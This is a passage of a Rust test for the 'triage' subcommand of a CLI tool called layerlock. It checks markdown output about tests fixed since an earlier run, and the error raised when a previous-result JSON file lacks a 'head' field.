        "kv-tests=reports/shard-1.xml",
        "--previous",
        "kv-tests=reports/shard-2.xml",
        "--previous-head",
        &old_head,
    ]);
    let (code, md, _) = repo.layerlock(&[
        "triage",
        "kv-tests=reports/again.xml",
        "--dark-since",
        "auto",
        "--previous",
        "reports/first.json",
        "--format",
        "markdown",
    ]);
    assert_eq!(code, 1);
    assert!(md.contains("#### Fixed since the earlier run"), "{md}");
    assert!(md.contains("  - fixed since: `"), "{md}");
    // A result that is not one is named.
    repo.write("reports/bad.json", "{\"x\": 1}");
    let (code, _, err) = repo.layerlock(&[
        "triage",
        "kv-tests=reports/again.xml",
        "--dark-since",
        "auto",
        "--previous",
        "reports/bad.json",
    ]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("reports/bad.json: no \"head\""), "{err}");
}
